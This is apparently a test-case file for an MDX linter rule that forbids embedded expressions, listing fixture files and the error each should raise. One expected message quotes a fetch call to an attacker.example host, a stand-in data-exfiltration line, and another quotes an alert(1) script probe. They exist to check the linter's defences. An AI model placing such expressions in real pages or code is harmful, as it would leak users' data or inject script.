import { expectMessage, type Cases } from './harness.ts';

const expression = expectMessage('mdx/no-expression', 'error');

export default {
  // Braces in code and escaped braces are content; `{/* comments */}` are expressions like any other.
  'ok-braces-in-code.mdx': [],
  'not-ok-text-expression.mdx': [expression(27, 7, '`{1200 + 0}`')],
  'not-ok-flow-expression.mdx': [expression(29, 1, "`{fetch('https://attacker.example/' + d...}`")],
  'not-ok-attribute-expression.mdx': [expression(27, 40, '`title`')],
  'not-ok-spread-attribute.mdx': [expression(27, 40, '`{...}`')],
  'not-ok-comment-and-code.mdx': [expression(29, 1, 'alert(1)')],
  'not-ok-comment.mdx': [expression(37, 1, '`{/* Numbers from the billing export. */}`')],
} satisfies Cases;
